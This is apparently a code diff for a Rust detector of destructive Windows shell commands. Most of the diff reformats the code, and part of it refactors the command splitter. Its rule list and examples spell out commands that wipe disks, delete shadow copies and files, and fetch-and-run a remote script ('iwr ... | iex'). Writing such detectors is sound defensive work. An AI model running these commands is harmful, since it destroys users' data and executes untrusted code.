@@ -9,10 +9,40 @@ use crate::detect::shell::{Report, decode, lexer::Word, prose};
 
 /// Words of which every text contains one that breaks a rule.
 pub(super) const WORDS: &[&str] = &[
-    "rd ", "rmdir ", "del ", "erase ", "format ", "remove-", "ri -", "ri ", "rm -", "clear-disk", "format-volume",
-    "initialize-disk", "diskpart", "vssadmin", "wmic ", "wbadmin ", "bcdedit ", "fsutil ", "wevtutil ", "cipher ", "sdelete",
-    "reg delete", "reg.exe", "stop-computer", "restart-computer", "shutdown ", "net user", "net localgroup", "schtasks ",
-    "sc delete", "iex", "invoke-expression", " -e ", " -en",
+    "rd ",
+    "rmdir ",
+    "del ",
+    "erase ",
+    "format ",
+    "remove-",
+    "ri -",
+    "ri ",
+    "rm -",
+    "clear-disk",
+    "format-volume",
+    "initialize-disk",
+    "diskpart",
+    "vssadmin",
+    "wmic ",
+    "wbadmin ",
+    "bcdedit ",
+    "fsutil ",
+    "wevtutil ",
+    "cipher ",
+    "sdelete",
+    "reg delete",
+    "reg.exe",
+    "stop-computer",
+    "restart-computer",
+    "shutdown ",
+    "net user",
+    "net localgroup",
+    "schtasks ",
+    "sc delete",
+    "iex",
+    "invoke-expression",
+    " -e ",
+    " -en",
 ];
 
 /// A rule about one command.
@@ -21,7 +51,13 @@ pub(super) struct CommandRule {
     /// The programs it is about, in lower case.
     programs: &'static [&'static str],
     matches: fn(&Run<'_>) -> bool,
-    #[cfg_attr(not(test), expect(dead_code, reason = "documents the rule, and is read by the test of all examples"))]
+    #[cfg_attr(
+        not(test),
+        expect(
+            dead_code,
+            reason = "documents the rule, and is read by the test of all examples"
+        )
+    )]
     pub(super) example: Example,
 }
 
@@ -39,9 +75,13 @@ impl Run<'_> {
 
     /// Whether a switch of cmd.exe is given, alone or in a row: `/s`, `/s/q`.
     fn switch(&self, letter: char) -> bool {
-        self.args.iter().filter(|arg| arg.starts_with('/')).any(|arg| {
-            arg.split('/').any(|switch| switch.len() == 1 && switch.starts_with(letter))
-        })
+        self.args
+            .iter()
+            .filter(|arg| arg.starts_with('/'))
+            .any(|arg| {
+                arg.split('/')
+                    .any(|switch| switch.len() == 1 && switch.starts_with(letter))
+            })
     }
 
     /// Whether a parameter of PowerShell is given, by any prefix of its name that is as long as `least`.
@@ -60,9 +100,20 @@ impl Run<'_> {
     /// Whether all that is named is in directories for temporary files.
     fn is_temporary(&self) -> bool {
         let temporary = |target: &String| {
-            let inside = ["%temp%\\", "%tmp%\\", "$env:temp\\", "$env:tmp\\", "$env:temp/", "${env:temp}\\", "/tmp/"];
-            let user = target.contains("\\appdata\\local\\temp\\") || target.starts_with("c:\\windows\\temp\\") || target.starts_with("c:\\temp\\");
-            !target.contains("..") && (user || inside.iter().any(|directory| target.starts_with(directory)))
+            let inside = [
+                "%temp%\\",
+                "%tmp%\\",
+                "$env:temp\\",
+                "$env:tmp\\",
+                "$env:temp/",
+                "${env:temp}\\",
+                "/tmp/",
+            ];
+            let user = target.contains("\\appdata\\local\\temp\\")
+                || target.starts_with("c:\\windows\\temp\\")
+                || target.starts_with("c:\\temp\\");
+            !target.contains("..")
+                && (user || inside.iter().any(|directory| target.starts_with(directory)))
         };
         self.targets().next().is_some() && self.targets().all(temporary)
     }
@@ -87,8 +138,14 @@ pub(super) const RULES: &[CommandRule] = &[
         id: "cmd-delete-tree",
         programs: &["del", "erase"],
         matches: |run| {
-            let all = || run.targets().any(|target| target.ends_with("\\*") || target.ends_with("*.*") || target == "*");
-            (run.switch('s') || (run.switch('q') || run.switch('f')) && all()) && run.targets().next().is_some() && !run.is_temporary()
+            let all = || {
+                run.targets().any(|target| {
+                    target.ends_with("\\*") || target.ends_with("*.*") || target == "*"
+                })
+            };
+            (run.switch('s') || (run.switch('q') || run.switch('f')) && all())
+                && run.targets().next().is_some()
+                && !run.is_temporary()
         },
         example: example("del /f /s /q C:\\*", "del /q build.log"),
     },
@@ -103,13 +160,27 @@ pub(super) const RULES: &[CommandRule] = &[
         programs: &["remove-item", "ri", "rm", "rmdir", "rd", "del", "erase"],
         matches: |run| {
             let recurses = run.parameter("recurse", 1) || run.is_piped;
-            recurses && run.parameter("force", 2) && !run.parameter("whatif", 2) && !run.is_temporary()
+            recurses
+                && run.parameter("force", 2)
+                && !run.parameter("whatif", 2)
+                && !run.is_temporary()
         },
-        example: example("Remove-Item -Recurse -Force C:\\data", "Remove-Item -Recurse -Force C:\\data -WhatIf"),
+        example: example(
+            "Remove-Item -Recurse -Force C:\\data",
+            "Remove-Item -Recurse -Force C:\\data -WhatIf",
+        ),
     },
     CommandRule {
         id: "powershell-wipe-disk",
-        programs: &["clear-disk", "format-volume", "initialize-disk", "remove-partition", "remove-volume", "remove-virtualdisk", "remove-storagepool"],
+        programs: &[
+            "clear-disk",
+            "format-volume",
+            "initialize-disk",
+            "remove-partition",
+            "remove-volume",
+            "remove-virtualdisk",
+            "remove-storagepool",
+        ],
         matches: |run| !run.args.is_empty() && !run.parameter("whatif", 2),
         example: example("Clear-Disk -Number 1 -RemoveData", "Get-Disk -Number 1"),
     },
@@ -117,20 +188,35 @@ pub(super) const RULES: &[CommandRule] = &[
         id: "windows-diskpart",
         programs: &["diskpart"],
         matches: |run| run.is_piped || run.switch('s'),
-        example: example("(echo select disk 0 & echo clean) | diskpart", "Get-Partition | Format-Table"),
+        example: example(
+            "(echo select disk 0 & echo clean) | diskpart",
+            "Get-Partition | Format-Table",
+        ),
     },
     CommandRule {
         id: "windows-delete-backups",
-        programs: &["vssadmin", "wmic", "wbadmin", "bcdedit", "fsutil", "wevtutil"],
+        programs: &[
+            "vssadmin", "wmic", "wbadmin", "bcdedit", "fsutil", "wevtutil",
+        ],
         matches: |run| match run.name {
-            "vssadmin" => run.starts_with(&["delete", "shadows"]) || run.starts_with(&["resize", "shadowstorage"]),
+            "vssadmin" => {
+                run.starts_with(&["delete", "shadows"])
+                    || run.starts_with(&["resize", "shadowstorage"])
+            }
             "wmic" => run.has("shadowcopy") && run.has("delete"),
             "wbadmin" => run.has("delete"),
-            "bcdedit" => run.has("/delete") || run.has("recoveryenabled") && run.has("no") || run.has("ignoreallfailures"),
+            "bcdedit" => {
+                run.has("/delete")
+                    || run.has("recoveryenabled") && run.has("no")
+                    || run.has("ignoreallfailures")
+            }
             "fsutil" => run.starts_with(&["usn", "deletejournal"]),
             _ => run.has("cl") || run.has("clear-log"),
         },
-        example: example("vssadmin delete shadows /all /quiet", "vssadmin list shadows"),
+        example: example(
+            "vssadmin delete shadows /all /quiet",
+            "vssadmin list shadows",
+        ),
     },
     CommandRule {
         id: "windows-wipe-free-space",
@@ -145,19 +231,37 @@ pub(super) const RULES: &[CommandRule] = &[
         id: "windows-delete-registry",
         programs: &["reg", "remove-itemproperty"],
         matches: |run| run.name == "reg" && run.starts_with(&["delete"]),
-        example: example("reg delete HKLM\\Software\\App /f", "reg query HKLM\\Software\\App"),
+        example: example(
+            "reg delete HKLM\\Software\\App /f",
+            "reg query HKLM\\Software\\App",
+        ),
     },
     CommandRule {
         id: "windows-stop-machine",
         programs: &["stop-computer", "restart-computer", "shutdown"],
-        matches: |run| run.name != "shutdown" || run.switch('s') || run.switch('r') || run.switch('p'),
+        matches: |run| {
+            run.name != "shutdown" || run.switch('s') || run.switch('r') || run.switch('p')
+        },
         example: example("shutdown /s /t 0", "shutdown /a"),
     },
     CommandRule {
         id: "windows-delete-account",
-        programs: &["net", "remove-localuser", "remove-aduser", "remove-adcomputer", "remove-vm", "schtasks", "sc"],
+        programs: &[
+            "net",
+            "remove-localuser",
+            "remove-aduser",
+            "remove-adcomputer",
+            "remove-vm",
+            "schtasks",
+            "sc",
+        ],
         matches: |run| match run.name {
-            "net" => run.args.first().is_some_and(|arg| ["user", "localgroup"].contains(&arg.as_str())) && run.has("/delete"),
+            "net" => {
+                run.args
+                    .first()
+                    .is_some_and(|arg| ["user", "localgroup"].contains(&arg.as_str()))
+                    && run.has("/delete")
+            }
             "schtasks" => run.has("/delete") && run.has("*"),
             "sc" => run.starts_with(&["delete"]),
             _ => !run.args.is_empty() && !run.parameter("whatif", 2),
@@ -169,11 +273,23 @@ pub(super) const RULES: &[CommandRule] = &[
         programs: &["iex", "invoke-expression"],
         matches: |run| {
             let fetches = |arg: &String| {
-                ["iwr", "irm", "curl", "wget", "invoke-webrequest", "invoke-restmethod"].contains(&arg.as_str()) || arg.contains("downloadstring")
+                [
+                    "iwr",
+                    "irm",
+                    "curl",
+                    "wget",
+                    "invoke-webrequest",
+                    "invoke-restmethod",
+                ]
+                .contains(&arg.as_str())
+                    || arg.contains("downloadstring")
             };
             run.args.iter().any(fetches)
         },
-        example: example("iwr -useb https://x.example/i.ps1 | iex", "iwr -useb https://x.example/i.ps1 -OutFile i.ps1"),
+        example: example(
+            "iwr -useb https://x.example/i.ps1 | iex",
+            "iwr -useb https://x.example/i.ps1 -OutFile i.ps1",
+        ),
     },
 ];
 
@@ -189,11 +305,18 @@ fn judge(text: &str, depth: usize, each: Report<'_>) {
     let mut fetched = false;
     for command in split(text) {
         let words = command.words.as_slice();
-        let lower: Vec<String> = words.iter().map(|word| word.text.to_ascii_lowercase()).collect();
+        let lower: Vec<String> = words
+            .iter()
+            .map(|word| word.text.to_ascii_lowercase())
+            .collect();
         if !command.is_piped && !command.is_inner {
             fetched = false;
         }
-        let Some(range) = words.first().zip(words.last()).map(|(first, last)| first.range.start..last.range.end) else {
+        let Some(range) = words
+            .first()
+            .zip(words.last())
+            .map(|(first, last)| first.range.start..last.range.end)
+        else {
             continue;
         };
         let start = head(&lower);
@@ -206,7 +329,9 @@ fn judge(text: &str, depth: usize, each: Report<'_>) {
         let name = name.rsplit(['\\', '/']).next().unwrap_or(name);
         let name = name.strip_suffix(".exe").unwrap_or(name);
         if depth < DEEPEST {
-            nested(name, rest, &mut |text| judge(text, depth + 1, &mut |rule, _| each(rule, range.clone())));
+            nested(name, rest, &mut |text| {
+                judge(text, depth + 1, &mut |rule, _| each(rule, range.clone()));
+            });
         }
         let mut args = lower.get(start + 1..).unwrap_or_default().to_vec();
         if fetched && command.is_piped {
@@ -217,11 +342,21 @@ fn judge(text: &str, depth: usize, each: Report<'_>) {
             args: &args,
             is_piped: command.is_piped,
         };
-        let found = RULES.iter().find(|rule| rule.programs.contains(&name) && (rule.matches)(&run));
+        let found = RULES
+            .iter()
+            .find(|rule| rule.programs.contains(&name) && (rule.matches)(&run));
         if let Some(rule) = found {
             each(rule.id, range);
         }
-        fetched |= ["iwr", "irm", "curl", "wget", "invoke-webrequest", "invoke-restmethod"].contains(&name)
+        fetched |= [
+            "iwr",
+            "irm",
+            "curl",
+            "wget",
+            "invoke-webrequest",
+            "invoke-restmethod",
+        ]
+        .contains(&name)
             || lower.iter().any(|word| word.contains("downloadstring"));
     }
 }
@@ -229,7 +364,11 @@ fn judge(text: &str, depth: usize, each: Report<'_>) {
 /// Calls `each` with the text that a command runs.
 fn nested(name: &str, args: &[Word], each: &mut dyn FnMut(&str)) {
     let joined = |from: usize| {
-        let texts: Vec<&str> = args.iter().skip(from).map(|word| word.text.as_str()).collect();
+        let texts: Vec<&str> = args
+            .iter()
+            .skip(from)
+            .map(|word| word.text.as_str())
+            .collect();
         texts.join(" ")
     };
     let is = |word: &Word, names: &[&str]| names.contains(&word.text.to_ascii_lowercase().as_str());
@@ -252,7 +391,10 @@ fn nested(name: &str, args: &[Word], each: &mut dyn FnMut(&str)) {
                     return each(&decode::utf16(&encoded.unwrap_or_default()));
                 }
             }
-            let options = args.iter().take_while(|word| word.text.starts_with('-')).count();
+            let options = args
+                .iter()
+                .take_while(|word| word.text.starts_with('-'))
+                .count();
             each(&joined(options));
         }
         "start" | "call" | "runas" | "invoke-expression" | "iex" | "psexec" | "start-process" => {
@@ -269,10 +411,29 @@ fn head(words: &[String]) -> usize {
     let mut at = 0;
     while let Some(word) = words.get(at) {
         match word.trim_start_matches('@') {
-            "call" | "sudo" | "gsudo" | "else" | "do" | "try" | "finally" | "" | "." | "&" => at += 1,
-            "start" => at += 1 + words.iter().skip(at + 1).take_while(|word| word.starts_with('/') || word.is_empty()).count(),
-            "if" => at += if words.get(at + 1).is_some_and(|word| word == "not") { 4 } else { 3 },
-            "for" => at = words.iter().position(|word| word == "do").map_or(words.len(), |at| at + 1),
+            "call" | "sudo" | "gsudo" | "else" | "do" | "try" | "finally" | "" | "." | "&" => {
+                at += 1;
+            }
+            "start" => {
+                at += 1 + words
+                    .iter()
+                    .skip(at + 1)
+                    .take_while(|word| word.starts_with('/') || word.is_empty())
+                    .count();
+            }
+            "if" => {
+                at += if words.get(at + 1).is_some_and(|word| word == "not") {
+                    4
+                } else {
+                    3
+                }
+            }
+            "for" => {
+                at = words
+                    .iter()
+                    .position(|word| word == "do")
+                    .map_or(words.len(), |at| at + 1);
+            }
             _ => break,
         }
     }
@@ -291,108 +452,169 @@ struct Command {
 /// Cuts a text into commands.
 fn split(text: &str) -> Vec<Command> {
     let bytes = text.as_bytes();
-    let (last_single, last_double) = (memrchr(b'\'', bytes), memrchr(b'"', bytes));
-    let mut commands = Vec::new();
-    let mut command = Command::default();
-    let mut word: Option<Word> = None;
-    let mut content = Vec::new();
-    let mut at = 0;
-    let mut depth = 0_usize;
-    let mut line_start = true;
-    while at <= bytes.len() {
-        let byte = bytes.get(at).copied().unwrap_or(b'\n');
-        if line_start {
-            line_start = false;
-            let line = bytes.get(at..).unwrap_or_default();
-            let line = line.get(..memchr(b'\n', line).unwrap_or(line.len())).unwrap_or_default();
-            if prose::is_line(line) {
-                at += line.len();
-                continue;
-            }
-            at += prompt(line);
-            if prompt(line) > 0 {
-                continue;
-            }
+    let mut splitter = Splitter {
+        text: bytes,
+        at: 0,
+        depth: 0,
+        last_single: memrchr(b'\'', bytes),
+        last_double: memrchr(b'"', bytes),
+        commands: Vec::new(),
+        command: Command::default(),
+        word: None,
+        content: Vec::new(),
+    };
+    let mut end = 0;
+    for line in text.split_inclusive('\n') {
+        end += line.len();
+        // Quoted text may have run on over the line.
+        if splitter.at < end {
+            splitter.line(end);
         }
-        let is_letter = at.checked_sub(1).and_then(|before| bytes.get(before)).is_some_and(u8::is_ascii_alphabetic);
+    }
+    splitter.separate(b'\n');
+    splitter.commands
+}
+
+/// A text on its way to commands.
+struct Splitter<'t> {
+    text: &'t [u8],
+    at: usize,
+    depth: usize,
+    last_single: Option<usize>,
+    last_double: Option<usize>,
+    commands: Vec<Command>,
+    command: Command,
+    /// The word at hand, and its bytes without quotes and escapes.
+    word: Option<Word>,
+    content: Vec<u8>,
+}
+
+impl Splitter<'_> {
+    fn line(&mut self, end: usize) {
+        let line = self.text.get(self.at..end).unwrap_or_default();
+        if prose::is_line(line) {
+            self.at = end;
+            return;
+        }
+        self.at += prompt(line);
+        while self.at < end {
+            self.step();
+        }
+    }
+
+    fn rest(&self) -> &[u8] {
+        self.text.get(self.at..).unwrap_or_default()
+    }
+
+    fn before(&self) -> Option<u8> {
+        self.text.get(self.at.checked_sub(1)?).copied()
+    }
+
+    /// Takes the next byte, or more where they belong together.
+    fn step(&mut self) {
+        let Some(&byte) = self.rest().first() else {
+            self.at += 1;
+            return;
+        };
+        let is_apostrophe = self
+            .before()
+            .is_some_and(|before| before.is_ascii_alphabetic());
         let opens = match byte {
-            b'"' => last_double.is_some_and(|last| at < last),
-            b'\'' => !is_letter && last_single.is_some_and(|last| at < last),
+            b'"' => self.last_double.is_some_and(|last| self.at < last),
+            b'\'' => !is_apostrophe && self.last_single.is_some_and(|last| self.at < last),
             _ => false,
         };
         if opens {
-            let body = bytes.get(at + 1..).unwrap_or_default();
-            let length = memchr(byte, body).unwrap_or(body.len());
-            let open = word.get_or_insert_with(|| Word { range: at..at, ..Word::default() });
-            open.quoted = true;
-            content.extend_from_slice(body.get(..length).unwrap_or_default());
-            at = (at + length + 2).min(bytes.len());
-            open.range.end = at;
-            if at == bytes.len() {
-                line_start = false;
-            }
-            continue;
+            let length = memchr(byte, self.rest().get(1..).unwrap_or_default())
+                .map_or(self.rest().len(), |length| length + 2);
+            let quoted = self
+                .rest()
+                .get(1..length - 1)
+                .unwrap_or_default()
+                .to_owned();
+            self.extend(&quoted, length).quoted = true;
+        } else if let Some(length) = braced(self.rest()) {
+            let name = self.rest().get(..length).unwrap_or_default().to_owned();
+            self.extend(&name, length);
+        } else if byte.is_ascii_whitespace() && byte != b'\n' || b"<>,".contains(&byte) {
+            self.end_word();
+            self.at += 1;
+        } else if b"\n&|;(){}".contains(&byte) {
+            self.separate(byte);
+            self.at += 1;
+        } else {
+            let is_escape = byte == b'^' || byte == b'`';
+            self.extend([byte].get(usize::from(is_escape)..).unwrap_or_default(), 1);
         }
-        if byte == b'{'
-            && let Some(length) = braced(bytes.get(at..).unwrap_or_default())
-        {
-            let open = word.get_or_insert_with(|| Word { range: at..at, ..Word::default() });
-            content.extend_from_slice(bytes.get(at..at + length).unwrap_or_default());
-            at += length;
-            open.range.end = at;
-            continue;
-        }
-        let ends_word = byte.is_ascii_whitespace() || b"&|;(){}<>,".contains(&byte);
-        if !ends_word {
-            let open = word.get_or_insert_with(|| Word { range: at..at, ..Word::default() });
-            if byte != b'^' && byte != b'`' {
-                content.push(byte);
-            }
-            at += 1;
-            open.range.end = at;
-            continue;
-        }
-        if let Some(mut done) = word.take() {
-            done.text = String::from_utf8_lossy(&std::mem::take(&mut content)).into_owned();
-            command.words.push(done);
-        }
-        if b"\n&|;(){}".contains(&byte) {
-            let escaped = at.checked_sub(1).and_then(|before| bytes.get(before)).is_some_and(|before| *before == b'^');
-            let is_pipe = byte == b'|' && bytes.get(at + 1) != Some(&b'|');
-            match byte {
-                b'(' | b'{' => depth += 1,
-                b')' | b'}' => depth = depth.saturating_sub(1),
-                _ => {}
-            }
-            line_start = byte == b'\n';
-            if !escaped && !(b"()".contains(&byte) && is_expression(&command)) {
-                let next = Command {
-                    is_piped: is_pipe,
-                    is_inner: depth > 0,
-                    ..Command::default()
-                };
-                let done = std::mem::replace(&mut command, next);
-                if !done.words.is_empty() {
-                    commands.push(done);
-                } else if done.is_piped && byte != b'\n' {
-                    command.is_piped = true;
-                }
-            }
-        }
-        at += 1;
     }
-    commands
+
+    /// Adds bytes to the word at hand, which take this much of the text.
+    fn extend(&mut self, bytes: &[u8], length: usize) -> &mut Word {
+        let start = self.at;
+        self.at += length;
+        self.content.extend_from_slice(bytes);
+        let word = self.word.get_or_insert_with(|| Word {
+            range: start..start,
+            ..Word::default()
+        });
+        word.range.end = self.at;
+        word
+    }
+
+    fn end_word(&mut self) {
+        if let Some(mut word) = self.word.take() {
+            word.text = String::from_utf8_lossy(&std::mem::take(&mut self.content)).into_owned();
+            self.command.words.push(word);
+        }
+    }
+
+    /// Ends a command, if what stands here ends one.
+    fn separate(&mut self, byte: u8) {
+        let is_escaped = self.before() == Some(b'^');
+        self.end_word();
+        match byte {
+            b'(' | b'{' => self.depth += 1,
+            b')' | b'}' => self.depth = self.depth.saturating_sub(1),
+            _ => {}
+        }
+        if is_escaped || b"()".contains(&byte) && is_expression(&self.command) {
+            return;
+        }
+        let is_pipe = byte == b'|' && self.rest().get(1) != Some(&b'|');
+        let next = Command {
+            is_piped: is_pipe,
+            is_inner: self.depth > 0,
+            ..Command::default()
+        };
+        let done = std::mem::replace(&mut self.command, next);
+        if !done.words.is_empty() {
+            self.commands.push(done);
+        } else if done.is_piped && byte != b'\n' {
+            self.command.is_piped = true;
+        }
+    }
 }
 
 /// The length of the name in braces that the text starts with, as `bcdedit` takes it.
 fn braced(text: &[u8]) -> Option<usize> {
-    let inner = text.iter().skip(1).take(48).take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'-').count();
+    if text.first() != Some(&b'{') {
+        return None;
+    }
+    let inner = text
+        .iter()
+        .skip(1)
+        .take(48)
+        .take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'-')
+        .count();
     (inner > 0 && text.get(inner + 1) == Some(&b'}')).then_some(inner + 2)
 }
 
 /// Whether a parenthesis behind the command belongs to its argument.
 fn is_expression(command: &Command) -> bool {
-    let first = command.words.first().map(|word| word.text.to_ascii_lowercase());
+    let first = command
+        .words
+        .first()
+        .map(|word| word.text.to_ascii_lowercase());
     first.is_some_and(|first| ["iex", "invoke-expression"].contains(&first.as_str()))
 }
 
@@ -401,7 +623,10 @@ fn prompt(line: &[u8]) -> usize {
     let path = line.strip_prefix(b"PS ").unwrap_or(line);
     match path {
         [drive, b':', b'\\', rest @ ..] if drive.is_ascii_alphabetic() => {
-            let end = rest.iter().take(200).position(|&byte| byte == b'>' || byte == b' ');
+            let end = rest
+                .iter()
+                .take(200)
+                .position(|&byte| byte == b'>' || byte == b' ');
             end.filter(|&end| rest.get(end) == Some(&b'>'))
                 .map_or(0, |end| line.len() - rest.len() + end + 1)
         }
